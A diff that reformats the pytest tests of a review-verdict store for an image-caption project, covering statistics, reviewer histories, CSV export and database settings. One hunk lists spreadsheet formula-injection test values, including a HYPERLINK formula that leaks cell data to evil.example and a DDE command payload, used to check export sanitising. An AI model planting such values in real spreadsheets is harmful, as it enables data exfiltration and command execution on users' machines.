@@ -43,21 +43,24 @@ def wilson_by_hand(k: int, n: int, z: float = Z95) -> tuple[float, float]:
 # ---- Wilson interval ---------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("k,n", [(0, 10), (5, 10), (81, 263), (15, 148), (0, 20), (1, 29), (10, 10), (1, 1)])
+@pytest.mark.parametrize(("k", "n"), [(0, 10), (5, 10), (81, 263), (15, 148), (0, 20), (1, 29), (10, 10), (1, 1)])
 def test_wilson_matches_the_formula(k: int, n: int) -> None:
     lo, hi = wilson_interval(k, n)
     want_lo, want_hi = wilson_by_hand(k, n)
     assert lo == pytest.approx(max(0.0, want_lo), abs=1e-12) and hi == pytest.approx(min(1.0, want_hi), abs=1e-12)
 
 
-@pytest.mark.parametrize("k,n,low,high", [
-    (81, 263, 0.2553, 0.3662),  # Newcombe 1998, example (a)
-    (15, 148, 0.0624, 0.1605),  # (b)
-    (0, 20, 0.0000, 0.1611),  # (c)
-    (1, 29, 0.0061, 0.1718),  # (d)
-    (0, 10, 0.0000, 0.2775),
-    (5, 10, 0.2366, 0.7634),
-])
+@pytest.mark.parametrize(
+    ("k", "n", "low", "high"),
+    [
+        (81, 263, 0.2553, 0.3662),  # Newcombe 1998, example (a)
+        (15, 148, 0.0624, 0.1605),  # (b)
+        (0, 20, 0.0000, 0.1611),  # (c)
+        (1, 29, 0.0061, 0.1718),  # (d)
+        (0, 10, 0.0000, 0.2775),
+        (5, 10, 0.2366, 0.7634),
+    ],
+)
 def test_wilson_matches_published_values(k: int, n: int, low: float, high: float) -> None:
     lo, hi = wilson_interval(k, n)
     assert abs(lo - low) < 1e-4 and abs(hi - high) < 1e-4, (lo, hi)
@@ -114,8 +117,15 @@ def test_strata_without_verdicts_are_left_out() -> None:
 
 
 @settings(max_examples=200, deadline=None)
-@given(st.lists(st.tuples(st.integers(1, 10**6), st.integers(1, 200)).flatmap(
-    lambda t: st.tuples(st.just(t[0]), st.just(t[1]), st.integers(0, t[1]))), min_size=1, max_size=8))
+@given(
+    st.lists(
+        st.tuples(st.integers(1, 10**6), st.integers(1, 200)).flatmap(
+            lambda t: st.tuples(st.just(t[0]), st.just(t[1]), st.integers(0, t[1]))
+        ),
+        min_size=1,
+        max_size=8,
+    )
+)
 def test_stratified_interval_holds_the_rate(strata: list[tuple[int, int, int]]) -> None:
     est = stratified_estimate(strata)
     pop = sum(N for N, _, _ in strata)
@@ -148,8 +158,10 @@ def test_two_reviewers_on_one_image_both_keep_their_verdict(db: str) -> None:
     # a reviewer changing their mind replaces only their own current verdict; the history keeps all
     store.add("images2/a1_CH_19.jpg", "wrong_place", reviewer="Ada")
     cur = store.current()
-    assert sorted(zip(cur["reviewer"], cur["verdict"], strict=True)) == [("Ada", "wrong_place"),
-                                                                         ("Grace", "bad_caption")]
+    assert sorted(zip(cur["reviewer"], cur["verdict"], strict=True)) == [
+        ("Ada", "wrong_place"),
+        ("Grace", "bad_caption"),
+    ]
     hist = store.history("images2/a1_CH_19.jpg")
     assert list(hist["verdict"]) == ["good", "bad_caption", "wrong_place"]
     assert hist["note"][1] == "says school, shows a church"
@@ -187,8 +199,9 @@ def test_export_csv_has_every_verdict(db: str) -> None:
     assert df["note"][0] == 'comma, "quote"\nnewline'
 
 
-@pytest.mark.parametrize("verdict,reviewer", [("great", "Ada"), ("", "Ada"), ("GOOD", "Ada"), ("good", ""),
-                                              ("good", "   ")])
+@pytest.mark.parametrize(
+    ("verdict", "reviewer"), [("great", "Ada"), ("", "Ada"), ("GOOD", "Ada"), ("good", ""), ("good", "   ")]
+)
 def test_invalid_verdict_or_empty_reviewer_is_refused(db: str, verdict: str, reviewer: str) -> None:
     store = ReviewStore(db)
     with pytest.raises(InvalidFilterError):
@@ -202,8 +215,10 @@ def test_saved_views_round_trip(db: str) -> None:
     store.save_view("tennis courts at 10 cm", "src=CH&tag=sport%3Dtennis")
     time.sleep(0.01)
     store.save_view("  Helsinki, 2019  ", "src=FI&y=2019-2019&bbox=24.9,60.1,25.0,60.2")
-    assert store.views() == [("Helsinki, 2019", "src=FI&y=2019-2019&bbox=24.9,60.1,25.0,60.2"),
-                             ("tennis courts at 10 cm", "src=CH&tag=sport%3Dtennis")]
+    assert store.views() == [
+        ("Helsinki, 2019", "src=FI&y=2019-2019&bbox=24.9,60.1,25.0,60.2"),
+        ("tennis courts at 10 cm", "src=CH&tag=sport%3Dtennis"),
+    ]
     store.save_view("tennis courts at 10 cm", "src=CH,ES&tag=sport%3Dtennis", replace=True)  # not duplicated
     assert dict(ReviewStore(db).views())["tennis courts at 10 cm"] == "src=CH,ES&tag=sport%3Dtennis"
     assert len(store.views()) == 2
@@ -272,8 +287,13 @@ for i in range(100_000):
 def test_sigkill_mid_stream_loses_nothing_committed(db: str) -> None:
     path = db
     ReviewStore(path).add("images2/before.jpg", "good", reviewer="Ada")
-    proc = subprocess.Popen([sys.executable, "-c", KILLED_WRITER, str(path)], stdout=subprocess.PIPE, text=True,
-                            cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)})
+    proc = subprocess.Popen(
+        [sys.executable, "-c", KILLED_WRITER, str(path)],
+        stdout=subprocess.PIPE,
+        text=True,
+        cwd=REPO,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+    )
     assert proc.stdout is not None
     printed: list[int] = []
     try:
@@ -302,8 +322,15 @@ def test_sigkill_mid_stream_loses_nothing_committed(db: str) -> None:
 # ---- identities, owners, spreadsheets ---------------------------------------------------------------------
 
 
-HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-                 "\t=1+1", "\r=1+1", "  =1+1"]
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
 
 
 @pytest.mark.parametrize("cell", HOSTILE_CELLS)
@@ -334,7 +361,9 @@ def test_signed_in_verdicts_are_marked_and_not_replaced_by_a_typed_name(db: str)
     store.add("a.jpg", "bad_image", reviewer="ada@example.org")  # someone typing Ada's address
     cur = store.current()
     assert sorted(zip(cur["reviewer"], cur["verified"], cur["verdict"], strict=True)) == [
-        ("ada@example.org", False, "bad_image"), ("ada@example.org", True, "good")]
+        ("ada@example.org", False, "bad_image"),
+        ("ada@example.org", True, "good"),
+    ]
     rows = list(csv.DictReader(io.StringIO(store.export_csv().decode())))
     assert [r["identity"] for r in rows] == ["verified", "unverified"]
 
@@ -413,7 +442,9 @@ def test_a_store_of_an_earlier_release_is_migrated(tmp_path: Path) -> None:
     store = ReviewStore(path)
     hist = store.history()
     assert list(zip(hist["reviewer"], hist["verdict"], hist["verified"], strict=True)) == [
-        ("Ada", "good", False), ("Bob", "other", False)]
+        ("Ada", "good", False),
+        ("Bob", "other", False),
+    ]
     assert store.views() == [("old view", "src=CH")]
     assert store.add("b.jpg", "good", reviewer="Cy") == 3
     uids = sqlite3.connect(path).execute("SELECT uid FROM verdicts").fetchall()
@@ -460,17 +491,31 @@ def test_a_read_only_folder_gives_a_read_only_store(tmp_path: Path) -> None:
         dispose_all()
 
 
-@pytest.mark.parametrize("cli,env,secrets,want_url,origin", [
-    (None, {}, None, "sqlite:////IDX/reviews.sqlite", "default"),
-    ("postgresql://u@h/db", {"SKYSCRIPT_DB": "sqlite:///x"}, None, "postgresql+psycopg://u@h/db", "--db"),
-    (None, {"SKYSCRIPT_DB": "postgres://u:pw@h:5433/db"}, {"reviews": {"db": "x"}},
-     "postgresql+psycopg://u:pw@h:5433/db", "SKYSCRIPT_DB"),
-    (None, {}, {"reviews": {"db": "postgresql://u@h/db"}}, "postgresql+psycopg://u@h/db",
-     "secrets.toml [reviews] db"),
-    ("/data/r.sqlite", {}, None, "sqlite:////data/r.sqlite", "--db"),
-])
-def test_which_database(cli: str | None, env: dict[str, str], secrets: dict[str, dict[str, str]] | None,
-                        want_url: str, origin: str) -> None:
+@pytest.mark.parametrize(
+    ("cli", "env", "secrets", "want_url", "origin"),
+    [
+        (None, {}, None, "sqlite:////IDX/reviews.sqlite", "default"),
+        ("postgresql://u@h/db", {"SKYSCRIPT_DB": "sqlite:///x"}, None, "postgresql+psycopg://u@h/db", "--db"),
+        (
+            None,
+            {"SKYSCRIPT_DB": "postgres://u:pw@h:5433/db"},
+            {"reviews": {"db": "x"}},
+            "postgresql+psycopg://u:pw@h:5433/db",
+            "SKYSCRIPT_DB",
+        ),
+        (
+            None,
+            {},
+            {"reviews": {"db": "postgresql://u@h/db"}},
+            "postgresql+psycopg://u@h/db",
+            "secrets.toml [reviews] db",
+        ),
+        ("/data/r.sqlite", {}, None, "sqlite:////data/r.sqlite", "--db"),
+    ],
+)
+def test_which_database(
+    cli: str | None, env: dict[str, str], secrets: dict[str, dict[str, str]] | None, want_url: str, origin: str
+) -> None:
     from skyscript_viz.reviewdb import resolve_db_url
 
     setting = resolve_db_url(Path("/IDX"), cli=cli, secrets=secrets, environ=env)
